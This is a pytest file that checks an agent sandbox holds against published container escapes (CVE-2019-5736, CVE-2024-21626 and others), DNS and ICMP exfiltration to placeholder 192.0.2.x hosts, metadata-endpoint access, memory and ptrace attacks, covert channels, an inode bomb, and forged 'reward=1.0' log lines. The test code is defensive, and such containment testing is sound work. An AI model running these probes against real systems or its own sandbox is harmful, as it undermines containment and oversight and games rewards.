"""Attacks known from published breaks (facts/sandboxes.md 5.2), tried from inside a box.

Each test names the attack it repeats; ``docs/security.md`` lists them with their results.
"""

import asyncio
import json
import os
import socket
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path

import pytest

from sandbox.backends.base import Level, PooledBox
from tests.sandbox.conftest import BOXED, CONFIG, COUNTED, RunInBox, host_pids
from tests.sandbox.test_attacks import SOURCE, attack, contained, usable


@pytest.mark.parametrize("level", BOXED)
def test_the_boxs_user_is_not_root_on_the_host(level: Level, in_box: RunInBox):
    """Root-started bubblewrap leaves kuid 0, which reads 0600 files and ignores RLIMIT_NPROC."""

    async def body(box: PooledBox) -> None:
        status = Path(f"/proc/{host_pids(box)['agent']}/status").read_text()
        fields = dict(line.split(":", 1) for line in status.splitlines())
        uids = {int(word) for word in fields["Uid"].split()}
        assert len(uids) == 1 and 0 not in uids
        assert uids == {box.enforced["uid"]}
        if os.geteuid() == 0:
            assert min(uids) >= CONFIG.uid_base and fields["Groups"].split() in ([], [str(*uids)])

    in_box(level, SOURCE, body)


@pytest.mark.parametrize("level", BOXED)
def test_two_boxes_have_two_users(level: Level, in_box: RunInBox):
    """A signal, a quota or a lock of one user's process must not reach another box."""

    async def body(first: PooledBox) -> None:
        async def inner(second: PooledBox) -> None:
            if os.geteuid() != 0:
                pytest.skip("an own uid for every box needs root")
            assert first.enforced["uid"] != second.enforced["uid"]

        await asyncio.to_thread(in_box, level, SOURCE, inner)

    in_box(level, SOURCE, body)


@contextmanager
def host_services() -> Iterator[dict[str, object]]:
    """What a node offers: a TCP port on every address (as Ray's GCS and dashboard do), a UDP port
    (as a resolver does) and an abstract UNIX socket. Records who came."""
    visits: list[str] = []
    with ExitStack() as stack:
        tcp = stack.enter_context(socket.create_server(("0.0.0.0", 0)))
        udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        udp.bind(("0.0.0.0", 0))
        abstract = stack.enter_context(socket.socket(socket.AF_UNIX))
        name = f"parl-test-{os.getpid()}-{tcp.getsockname()[1]}"
        abstract.bind("\0" + name)
        abstract.listen()

        def watch(sock: socket.socket, label: str) -> None:
            sock.settimeout(30)
            try:
                if label == "udp":
                    sock.recv(1)
                else:
                    sock.accept()[0].close()
                visits.append(label)
            except OSError:
                return

        for sock, label in ((tcp, "tcp"), (udp, "udp"), (abstract, "unix")):
            threading.Thread(target=watch, args=(sock, label), daemon=True).start()
        addresses = {"127.0.0.1", *socket.gethostbyname_ex(socket.gethostname())[2]}
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            try:
                probe.connect(("192.0.2.1", 9))  # sends nothing; names our outer address
                addresses.add(probe.getsockname()[0])
            except OSError:
                addresses.add("127.0.0.1")
        yield {
            "tcp": tcp.getsockname()[1],
            "udp": udp.getsockname()[1],
            "unix": name,
            "addresses": sorted(addresses),
            "visits": visits,
        }


@pytest.mark.parametrize("level", BOXED)
def test_services_of_the_node_are_out_of_reach(level: Level, in_box: RunInBox):
    """Ray's GCS and dashboard, a resolver, an abstract socket: by every address of this machine."""
    with host_services() as host:
        code = f"""
def tcp(address):
    with socket.socket() as sock:
        sock.settimeout(2)
        sock.connect((address, {host["tcp"]}))
def udp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"x", (address, {host["udp"]}))
def unix():
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\\0{host["unix"]}")
result = [[attempt(lambda: tcp(a)), attempt(lambda: udp(a))] for a in {host["addresses"]!r}]
result += [[attempt(unix)]]
"""
        result = contained(in_box, level, code)
        assert isinstance(result, list)
        flat = {word for row in result for word in row}
        assert flat <= {"ENETUNREACH", "ECONNREFUSED", "None"}, result
        # a datagram to the box's own loopback is sent and lost
        assert all(row[0] in ("ENETUNREACH", "ECONNREFUSED") for row in result)
        assert host["visits"] == []


@pytest.mark.parametrize("level", BOXED)
def test_nothing_leaves_by_dns_icmp_or_raw_packets(level: Level, in_box: RunInBox):
    """DNS tunnelling and ping, which allow-list proxies tend to forget; also IPv6 and the
    instance's metadata address."""
    code = """
def datagram(family, address, port):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"secret.example.org", (address, port))
def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        sock.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0", ("192.0.2.1", 0))
def metadata():
    with socket.socket() as sock:
        sock.settimeout(2)
        sock.connect(("169.254.169.254", 80))
result = {
    "dns": attempt(lambda: datagram(socket.AF_INET, "192.0.2.53", 53)),
    "dns6": attempt(lambda: datagram(socket.AF_INET6, "2001:db8::53", 53)),
    "ping": attempt(ping),
    "raw": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)),
    "packet": attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)),
    "vsock": attempt(lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 1))),
    "metadata": attempt(metadata),
    "routes": open("/proc/net/route").read().count("\\n"),
}
"""
    result = contained(in_box, level, code)
    assert isinstance(result, dict)
    assert result.pop("routes") <= 1
    refused = {"ENETUNREACH", "EADDRNOTAVAIL", "EPERM", "EACCES", "EAFNOSUPPORT", "ENODEV"}
    refused |= {"ECONNRESET", "ETIMEDOUT", "EHOSTUNREACH", "EPROTONOSUPPORT", "TypeError"}
    assert set(result.values()) <= refused, result


@pytest.mark.parametrize("level", BOXED)
def test_the_interpreter_of_init_cannot_be_overwritten(level: Level, in_box: RunInBox):
    """CVE-2019-5736: writing through /proc/<pid>/exe of what entered the box."""
    code = """
def overwrite(path):
    fd = os.open(path, os.O_WRONLY | os.O_TRUNC)
    os.write(fd, b"#!/bin/sh")
result = [attempt(lambda: overwrite(p)) for p in
          ("/proc/1/exe", "/proc/self/exe", sys.executable, os.path.realpath(sys.executable))]
"""
    result = contained(in_box, level, code)
    assert isinstance(result, list)
    assert set(result) <= {"EACCES", "EROFS", "ETXTBSY", "EPERM"}, result


@pytest.mark.parametrize("level", BOXED)
def test_no_descriptor_or_directory_of_the_host_leaks_in(level: Level, in_box: RunInBox):
    """CVE-2024-21626: an inherited descriptor or a working directory outside the root."""
    code = """
links = {}
for fd in os.listdir("/proc/self/fd"):
    links[fd] = attempt(lambda: os.readlink(f"/proc/self/fd/{fd}"))
up = os.open("/", os.O_RDONLY)
seen = set()
for _ in range(64):
    inner = os.open("..", os.O_RDONLY, dir_fd=up)
    os.close(up)
    up = inner
same = os.fstat(up).st_ino == os.stat("/").st_ino
result = [links, os.readlink("/proc/self/cwd"), same,
          attempt(lambda: os.readlink("/proc/1/cwd")), attempt(lambda: os.listdir("/proc/1/fd"))]
"""
    result = contained(in_box, level, code)
    assert isinstance(result, list)
    links, cwd, same_root, init_cwd, init_fds = result
    text = json.dumps(links)
    assert cwd == "/box" and same_root is True
    assert init_cwd == init_fds == "EACCES"
    allowed = ("/dev/null", "socket:", "/proc/", "ENOENT", "pipe:", "'/dev/null'")
    assert all(any(word in link for word in allowed) for link in links.values()), text


@pytest.mark.parametrize("level", BOXED)
def test_masked_kernel_files_stay_masked(level: Level, in_box: RunInBox):
    """CVE-2025-31133, -52565, -52881: procfs writes that would reach the host's kernel."""
    code = """
def write(path):
    with open(path, "w") as file:
        file.write("x")
paths = ["/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
         "/proc/sys/vm/drop_caches", "/proc/self/attr/exec", "/proc/1/oom_score_adj",
         "/proc/1/attr/current", "/proc/timer_list", "/dev/console", "/dev/kmsg", "/dev/mem"]
def masked(path):
    # the engine binds the null device over a file it hides
    return os.path.exists(path) and os.stat(path).st_rdev == os.makedev(1, 3)
result = {path: attempt(lambda: write(path)) for path in paths if not masked(path)}
result["read"] = {
    path: attempt(lambda: len(open(path, "rb").read(64)))
    for path in ("/proc/kcore", "/proc/keys", "/proc/kmsg", "/dev/kmsg", "/dev/mem", "/dev/vda",
                 "/sys/firmware/dmi/tables/DMI", "/proc/1/mem")
}
"""
    result = contained(in_box, level, code)
    assert isinstance(result, dict)
    reads = result.pop("read")
    refused = {"EACCES", "EROFS", "ENOENT", "EPERM", "EIO", "EINVAL", "ENXIO", "EISDIR"}
    assert set(result.values()) <= refused, result
    assert set(reads.values()) <= refused | {"0"}, reads


@pytest.mark.parametrize("level", BOXED)
def test_memory_of_the_agent_cannot_be_read_or_written(level: Level, in_box: RunInBox):
    """/proc/<pid>/mem, process_vm_writev and ptrace against the process that talks to the host."""
    code = """
parent = os.getppid()
result = {
    "write": attempt(lambda: open(f"/proc/{parent}/mem", "r+b")),
    "maps": attempt(lambda: open(f"/proc/{parent}/maps").read()),
    "descriptors": attempt(lambda: os.listdir(f"/proc/{parent}/fd")),
    "attach": [libc.ptrace(16, parent, 0, 0), errno.errorcode[ctypes.get_errno()]],
    "itself": attempt(lambda: open("/proc/self/mem", "r+b").close()),
}
"""
    result = contained(in_box, level, code)
    assert isinstance(result, dict)
    assert result.pop("itself") == "None" and result.pop("attach") == [-1, "EPERM"]
    assert set(result.values()) == {"EACCES"}, result


@pytest.mark.parametrize("level", BOXED)
def test_a_crash_leaves_no_core_file(level: Level, in_box: RunInBox):
    """A core of a process that held a secret would be copied out with the artifacts."""
    code = """
pid = os.fork()
if pid == 0:
    os.abort()
_, status = os.waitpid(pid, 0)
result = [os.WTERMSIG(status), os.WCOREDUMP(status), os.listdir(workdir()),
          attempt(lambda: resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20)))]
"""
    assert contained(in_box, level, code) == [6, False, [], "ValueError"]


@pytest.mark.parametrize("level", BOXED)
def test_no_message_queue_memory_or_lock_outlives_the_episode(level: Level, in_box: RunInBox):
    """Covert channels between two episodes of one box: POSIX queues, shared memory, System V."""
    code = """
librt = ctypes.CDLL(None, use_errno=True)
queue = librt.mq_open(b"/parl", os.O_CREAT | os.O_RDWR, 0o600, None)
first = errno.errorcode[ctypes.get_errno()] if queue < 0 else "open"
segment = librt.shmget(77, 4096, 0o1600)
second = errno.errorcode[ctypes.get_errno()] if segment < 0 else "open"
result = [first, second, attempt(lambda: open("/dev/shm/left", "w"))]
"""
    result = contained(in_box, level, code)
    assert isinstance(result, list)
    assert result[0] == result[1] == "EPERM"
    assert result[2] in ("EROFS", "ENOENT", "EACCES")


@pytest.mark.parametrize("level", BOXED)
def test_no_answer_verifier_or_history_is_in_the_box(level: Level, in_box: RunInBox):
    """Oracle baked into the image, the future of a git repository, a package that holds the fix:
    no file of the box has a name or text of ours, and nothing can be installed."""
    code = """
ours = {"task.toml", "lookup_calc", "reward.txt", "reward.json", "cassettes"}
# packages of the system may hold such names of their own
elsewhere = {".git", "solution"}
found, num_files = [], 0
for top in sorted(os.listdir("/")):
    if top in ("proc", "sys", "dev"):
        continue
    for directory, directories, files in os.walk("/" + top):
        num_files += len(files)
        wanted = ours if top == "usr" else ours | elsewhere
        found += [os.path.join(directory, n) for n in [*directories, *files] if n in wanted]
def install():
    import urllib.request
    try:
        urllib.request.urlopen("http://192.0.2.1/simple/", timeout=2)
    except OSError as error:
        return str(error)
result = [found, num_files > 100, install(), attempt(lambda: __import__("pip"))]
"""
    result = contained(in_box, level, code, timeout_s=60)
    assert isinstance(result, list)
    found, any_files, installed, pip = result
    assert found == [] and any_files
    assert "unreachable" in installed and pip == "ModuleNotFoundError"


@pytest.mark.parametrize("level", BOXED)
def test_terminal_escapes_and_forged_log_lines_are_written_out(level: Level, in_box: RunInBox):
    """A tool's text, a refusal and even the name of an exception: no control character survives."""

    async def body(box: PooledBox) -> None:
        await box.request("start", {"data": {}, "timeout_s": 5}, 10)
        evil = "\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202e\\rlevel=error reward=1.0"
        name = f"raise type('E{evil}\\nreward=1.0', (Exception,), {{}})()"
        replies = []
        for code in (
            f"result = '{evil}'",
            f"raise __import__('sandbox').toolkit.ToolError('{evil}')",
        ):
            replies.append(await _call(box, code))
        crash = await _call(box, name)
        text = "".join(reply.value for reply in (*replies, crash))
        assert not any(ord(char) < 32 or 127 <= ord(char) < 160 for char in text), repr(text)
        assert "\u202e" not in text and "\\x1b" in text
        assert crash.error == "crash" and "\n" not in crash.value
        await usable(box)

    in_box(level, SOURCE, body)


async def _call(box: PooledBox, code: str):
    params = {"tool": "python", "arguments": {"code": code}, "max_output_bytes": 1000}
    return await box.request("call", {**params, "timeout_s": 5}, 10)


@pytest.mark.parametrize("level", BOXED)
def test_pids_of_other_boxes_and_of_the_host_do_not_exist(level: Level, in_box: RunInBox):
    """Signals by number over the whole range reach nobody."""
    code = f"""
reached = []
for pid in [*range(12, 400), *range({os.getpid() - 50}, {os.getpid() + 50})]:
    try:
        os.kill(pid, 0)
        reached.append(pid)
    except ProcessLookupError:
        pass
result = reached
"""
    assert contained(in_box, level, code) == []


@pytest.mark.slow
@pytest.mark.parametrize("level", COUNTED)
def test_an_inode_bomb_stays_in_the_box(level: Level, in_box: RunInBox):
    """Empty files cost no block but kernel memory, which the box's cgroup is charged for; a
    container's tmpfs also has a cap on inodes. The reset copes with what was made."""

    async def body(box: PooledBox) -> None:
        await box.request("start", {"data": {}, "timeout_s": 5}, 10)
        code = """
made = 0
def bomb():
    global made
    while made < 400_000:
        open(f"{made}", "w").close()
        made += 1
result = [attempt(bomb), made]
"""
        result = await attack(box, code, timeout_s=60)
        if level is Level.DOCKER:
            assert isinstance(result, list) and result[0] == "ENOSPC"
        else:
            assert result == "died" and box.oom_kills == 1

    in_box(level, SOURCE, body)
